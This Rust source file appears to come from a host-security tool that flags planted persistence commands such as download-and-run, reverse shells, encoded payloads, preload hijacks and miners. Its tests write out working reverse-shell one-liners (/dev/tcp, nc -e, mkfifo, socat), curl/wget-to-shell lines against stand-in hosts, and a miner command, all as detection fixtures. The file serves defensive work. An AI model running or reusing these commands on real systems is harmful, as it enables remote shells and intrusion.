//! Recognises commands that intruders plant in crontabs, systemd units, rc.local and
//! shell start-up files: download-and-run, reverse shells, decoded payloads, programs in
//! world-writable temp dirs or hidden directories, preload hijacks and miners.
//!
//! Plain token and substring logic over one command line: cheap, no regex engine, and
//! each signal says in words why it fired so the operator can judge the evidence.

use rampart_core::Severity;

/// One reason a command looks planted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Signal {
    /// Stable short name (`download-and-run`, `reverse-shell`, …).
    pub kind: &'static str,
    pub severity: Severity,
    pub why: String,
}

/// World-writable directories where nothing that runs at boot or login belongs.
pub const TEMP_DIRS: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/"];

const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch", "lwp-download", "tftp", "aria2c", "ftp"];
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "python", "python2", "python3", "perl", "ruby",
    "php", "node",
];
const MINERS: &[&str] = &[
    "xmrig",
    "minerd",
    "cpuminer",
    "stratum+tcp://",
    "stratum+ssl://",
    "cryptonight",
];

/// The signals of one command line (or one line of a script). Empty when it looks benign.
pub fn scan(command: &str) -> Vec<Signal> {
    let mut out = Vec::new();
    let lower = command.to_ascii_lowercase();
    let words = words(&lower);
    let names: Vec<&str> = words.iter().map(|w| basename(w)).collect();
    let has_name = |set: &[&str]| names.iter().any(|n| set.contains(n));

    let downloader = names.iter().find(|n| DOWNLOADERS.contains(n)).copied();
    if let Some(dl) = downloader {
        if let Some(how) = runs_download(&lower, &names) {
            out.push(signal(
                "download-and-run",
                Severity::Critical,
                format!("downloads with {dl} and {how}"),
            ));
        }
    }
    if lower.contains("/dev/tcp/") || lower.contains("/dev/udp/") {
        out.push(signal(
            "reverse-shell",
            Severity::Critical,
            "opens a network connection through bash's /dev/tcp or /dev/udp".into(),
        ));
    }
    if let Some(nc) = netcat_exec(&words) {
        out.push(signal(
            "reverse-shell",
            Severity::Critical,
            format!("{nc} with -e/-c hands a shell to a network peer"),
        ));
    }
    if names.contains(&"socat") && (lower.contains("exec:") || lower.contains("system:")) {
        out.push(signal(
            "reverse-shell",
            Severity::Critical,
            "socat connects a program to a network peer".into(),
        ));
    }
    if names.contains(&"mkfifo")
        && names
            .iter()
            .any(|n| matches!(*n, "nc" | "ncat" | "netcat" | "telnet"))
    {
        out.push(signal(
            "reverse-shell",
            Severity::Critical,
            "mkfifo with netcat/telnet: the classic named-pipe reverse shell".into(),
        ));
    }
    if let Some(lang) = inline_socket_code(&lower, &names) {
        out.push(signal(
            "reverse-shell",
            Severity::Critical,
            format!("inline {lang} code that opens sockets or spawns a terminal"),
        ));
    }
    if decodes_base64(&lower, &names) {
        out.push(signal(
            "encoded-payload",
            Severity::High,
            "decodes base64 (a common way to hide a payload)".into(),
        ));
    }
    let executed = executed_words(&lower);
    if let Some(p) = executed.iter().find(|w| is_temp_path(w)) {
        out.push(signal(
            "temp-dir",
            Severity::High,
            format!("runs {p} from a world-writable temp directory"),
        ));
    } else if let (Some(dl), Some(p)) = (downloader, download_target(&words).filter(|p| is_temp_path(p))) {
        out.push(signal(
            "temp-dir",
            Severity::High,
            format!("downloads with {dl} into {p}, a world-writable temp directory"),
        ));
    }
    if let Some(p) = executed.iter().find(|w| in_hidden_dir(w) && !is_temp_path(w)) {
        // Tool managers keep their start-up scripts in dot directories of the home
        // (`. "$HOME/.cargo/env"`); a dot directory anywhere else is a hiding place.
        let in_home = ["~/", "$home/", "${home}/", "/home/", "/root/"]
            .iter()
            .any(|h| p.starts_with(h));
        let (severity, where_) = if in_home {
            (Severity::Low, "a hidden (dot) directory of a home")
        } else {
            (Severity::High, "a hidden (dot) directory")
        };
        out.push(signal(
            "hidden-path",
            severity,
            format!("runs {p}, a program in {where_}"),
        ));
    }
    if lower.contains("ld_preload=") {
        out.push(signal(
            "ld-preload",
            Severity::High,
            "sets LD_PRELOAD, which loads a library into every program started".into(),
        ));
    }
    if let Some(m) = MINERS.iter().find(|m| lower.contains(*m)) {
        out.push(signal(
            "miner",
            Severity::Critical,
            format!("mentions {m}, a cryptocurrency miner"),
        ));
    }
    if has_name(&["chattr"]) && words.iter().any(|w| w.starts_with("+i") || w.starts_with("+a")) {
        out.push(signal(
            "immutable",
            Severity::High,
            "makes files immutable with chattr (used to keep planted files from removal)".into(),
        ));
    }
    out
}

/// The most severe signal, if any.
pub fn worst(signals: &[Signal]) -> Option<Severity> {
    signals.iter().map(|s| s.severity).max()
}

/// The reasons joined for an evidence line.
pub fn describe(signals: &[Signal]) -> String {
    signals
        .iter()
        .map(|s| s.why.as_str())
        .collect::<Vec<_>>()
        .join("; ")
}

fn signal(kind: &'static str, severity: Severity, why: String) -> Signal {
    Signal { kind, severity, why }
}

/// Splits a command line into words at whitespace and shell operators, dropping quotes.
fn words(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    for c in s.chars() {
        match c {
            ' ' | '\t' | ';' | '|' | '&' | '(' | ')' | '`' | '<' | '>' | '{' | '}' | '\n' => {
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
            '"' | '\'' => {}
            _ => cur.push(c),
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

fn basename(word: &str) -> &str {
    let w = word.rsplit('/').next().unwrap_or(word);
    // `$(curl` and `"$(wget` reach here as `$curl`: strip the substitution marker.
    w.trim_start_matches('$')
}

/// How the downloaded content gets run, if it does.
fn runs_download(lower: &str, names: &[&str]) -> Option<&'static str> {
    // `curl … | sh`, `wget -qO- … | python3 -`
    for seg in lower.split('|').skip(1) {
        let ws = words(seg);
        let first = ws.first().map(|w| basename(w)).unwrap_or("");
        let first = if matches!(first, "sudo" | "env" | "nohup" | "exec") {
            ws.get(1).map(|w| basename(w)).unwrap_or("")
        } else {
            first
        };
        if INTERPRETERS.contains(&first) {
            return Some("pipes it into an interpreter");
        }
    }
    if lower.contains("<(") {
        return Some("runs it through process substitution");
    }
    if (lower.contains("$(") || lower.contains('`'))
        && names
            .iter()
            .any(|n| matches!(*n, "sh" | "bash" | "eval" | "dash" | "zsh"))
    {
        return Some("runs the downloaded text as a command");
    }
    if names.contains(&"eval") {
        return Some("evaluates it");
    }
    if names.contains(&"chmod") && (lower.contains("+x") || lower.contains("777") || lower.contains("755")) {
        return Some("makes it executable");
    }
    None
}

fn netcat_exec(words: &[String]) -> Option<&'static str> {
    let mut tool = None;
    for w in words {
        match basename(w) {
            "nc" | "netcat" | "nc.traditional" | "nc.openbsd" => tool = Some("netcat"),
            "ncat" => tool = Some("ncat"),
            _ => {}
        }
        if tool.is_some()
            && (w == "-e"
                || w == "-c"
                || (w.starts_with('-') && !w.starts_with("--") && w.contains('e') && w.len() <= 6))
        {
            return tool;
        }
    }
    None
}

fn inline_socket_code(lower: &str, names: &[&str]) -> Option<&'static str> {
    let inline = |lang: &[&str], flag: &str| {
        names.iter().any(|n| lang.iter().any(|l| n.starts_with(l))) && lower.contains(flag)
    };
    let sockety = lower.contains("socket") || lower.contains("pty.spawn") || lower.contains("fsockopen");
    if !sockety {
        return None;
    }
    if inline(&["python"], " -c") {
        Some("Python")
    } else if inline(&["perl"], " -e") {
        Some("Perl")
    } else if inline(&["php"], " -r") {
        Some("PHP")
    } else if inline(&["ruby"], " -e") || inline(&["ruby"], " -rsocket") {
        Some("Ruby")
    } else {
        None
    }
}

fn decodes_base64(lower: &str, names: &[&str]) -> bool {
    (names.contains(&"base64")
        && (lower.contains(" -d") || lower.contains("--decode") || lower.contains(" -D")))
        || lower.contains("b64decode")
        || lower.contains("base64_decode")
        || (names.contains(&"openssl") && lower.contains("base64") && lower.contains(" -d"))
}

/// Words that a shell would run as programs: the first word of each pipeline segment
/// (after wrappers such as sudo, nohup and variable assignments) and the script an
/// interpreter is given.
fn executed_words(lower: &str) -> Vec<String> {
    const WRAPPERS: &[&str] = &[
        "sudo", "nohup", "exec", "env", "setsid", "nice", "ionice", "stdbuf", "command", "builtin", "then",
        "do", "else", "if", "while", "until", "!", "time", "su", "-c",
    ];
    let mut out = Vec::new();
    let mut seg = String::new();
    let mut segments = Vec::new();
    for c in lower.chars() {
        if matches!(c, ';' | '|' | '&' | '(' | ')' | '`' | '\n' | '{' | '}') {
            segments.push(std::mem::take(&mut seg));
        } else {
            seg.push(c);
        }
    }
    segments.push(seg);
    for seg in segments {
        let ws = words(&seg);
        let mut it = ws.iter().filter(|w| *w != "$").peekable();
        while let Some(w) = it.peek() {
            let assignment = w.contains('=') && !w.starts_with('/') && !w.starts_with('-');
            if assignment || WRAPPERS.contains(&w.as_str()) {
                it.next();
            } else if *w == "timeout" {
                it.next();
                it.next();
            } else {
                break;
            }
        }
        let Some(cmd) = it.next() else { continue };
        out.push(cmd.clone());
        if INTERPRETERS.contains(&basename(cmd)) || cmd == "." || cmd == "source" {
            if let Some(script) = it.find(|w| !w.starts_with('-')) {
                if script.contains('/') {
                    out.push(script.clone());
                }
            }
        }
    }
    out
}

/// The file a downloader writes to (`-o FILE`, `-O FILE`, `--output=FILE`, `> FILE`).
fn download_target(words: &[String]) -> Option<&str> {
    let mut prev = "";
    for w in words {
        let output_flag = matches!(prev, "-o" | "--output" | "--output-document")
            || (prev.starts_with('-') && !prev.starts_with("--") && prev.ends_with('o') && prev.len() <= 4);
        if output_flag && w.starts_with('/') {
            return Some(w);
        }
        if let Some(v) = w
            .strip_prefix("--output=")
            .or_else(|| w.strip_prefix("--output-document="))
        {
            return Some(v);
        }
        prev = w;
    }
    words.iter().rev().find(|w| is_temp_path(w)).map(String::as_str)
}

/// A path with a component that starts with a dot (`/usr/lib/.x/run`, `~/.cache/.k`),
/// except `.` and `..` themselves and the usual per-user config dirs of a home path.
fn in_hidden_dir(word: &str) -> bool {
    let w = word.split_once('=').map(|(_, v)| v).unwrap_or(word);
    if !w.contains('/') || w.starts_with("http") || w.contains("://") {
        return false;
    }
    let comps: Vec<&str> = w.split('/').collect();
    comps
        .iter()
        .take(comps.len().saturating_sub(1).max(1))
        .enumerate()
        .any(|(i, c)| i > 0 && c.starts_with('.') && *c != "." && *c != ".." && c.len() > 1)
        || (w.starts_with('/')
            && comps
                .last()
                .is_some_and(|c| c.starts_with('.') && c.len() > 1 && *c != ".."))
}

/// True for a path in a world-writable temp dir.
pub fn is_temp_path(path: &str) -> bool {
    TEMP_DIRS
        .iter()
        .any(|d| path.starts_with(d) || path == d.trim_end_matches('/'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(cmd: &str) -> Vec<&'static str> {
        scan(cmd).into_iter().map(|s| s.kind).collect()
    }

    #[test]
    fn download_and_run() {
        assert!(kinds("curl -fsSL http://x.example/a.sh | sh").contains(&"download-and-run"));
        assert!(kinds("wget -qO- http://1.2.3.4/x | /bin/bash -s").contains(&"download-and-run"));
        assert!(kinds("bash -c \"$(curl -s http://e/x)\"").contains(&"download-and-run"));
        assert!(kinds("/bin/sh -c 'curl -s http://x/k | sh'").contains(&"download-and-run"));
        assert!(kinds("bash <(wget -O- http://e/x)").contains(&"download-and-run"));
        assert!(
            kinds("wget http://e/k -O /var/tmp/k; chmod +x /var/tmp/k; /var/tmp/k")
                .contains(&"download-and-run")
        );
        // A health check that only downloads is not download-and-run.
        assert!(!kinds("curl -fsS https://hc-ping.com/abc > /dev/null").contains(&"download-and-run"));
    }

    #[test]
    fn reverse_shells() {
        assert!(kinds("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").contains(&"reverse-shell"));
        assert!(kinds("nc -e /bin/sh 10.0.0.1 4444").contains(&"reverse-shell"));
        assert!(
            kinds("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f")
                .contains(&"reverse-shell")
        );
        assert!(
            kinds("python3 -c 'import socket,subprocess,os;s=socket.socket()'").contains(&"reverse-shell")
        );
        assert!(kinds("perl -e 'use Socket;'").contains(&"reverse-shell"));
        assert!(kinds("socat exec:'bash -li',pty tcp:10.0.0.1:4444").contains(&"reverse-shell"));
        assert!(!kinds("nc -z localhost 80").contains(&"reverse-shell"));
        assert!(!kinds("python3 -c 'print(1)'").contains(&"reverse-shell"));
    }

    #[test]
    fn payloads_paths_and_preload() {
        assert!(kinds("echo aGVsbG8= | base64 -d | sh").contains(&"encoded-payload"));
        assert!(kinds("/tmp/.x/run").contains(&"temp-dir"));
        assert!(kinds("/dev/shm/kworker").contains(&"temp-dir"));
        assert!(kinds("/usr/lib/.cache/updater --daemon").contains(&"hidden-path"));
        assert_eq!(worst(&scan(". \"$HOME/.cargo/env\"")), Some(Severity::Low));
        assert!(kinds("export LD_PRELOAD=/lib/libx.so").contains(&"ld-preload"));
        assert!(kinds("/opt/x/xmrig -o stratum+tcp://pool:3333").contains(&"miner"));
    }

    #[test]
    fn ordinary_jobs_are_benign() {
        for cmd in [
            "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
            "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
            "/usr/bin/certbot -q renew",
            "cd /var/www/html && php artisan schedule:run >> /dev/null 2>&1",
            "/sbin/e2scrub_all -A -r",
            "find /tmp -type f -mtime +7 -delete",
            "./configure && make",
        ] {
            let s = scan(cmd);
            assert!(
                s.iter().all(|s| s.severity < Severity::High || s.kind == "temp-dir"),
                "{cmd}: {s:?}"
            );
        }
        assert!(scan("/usr/bin/certbot -q renew").is_empty());
        assert!(scan("./configure && make").is_empty());
    }
}
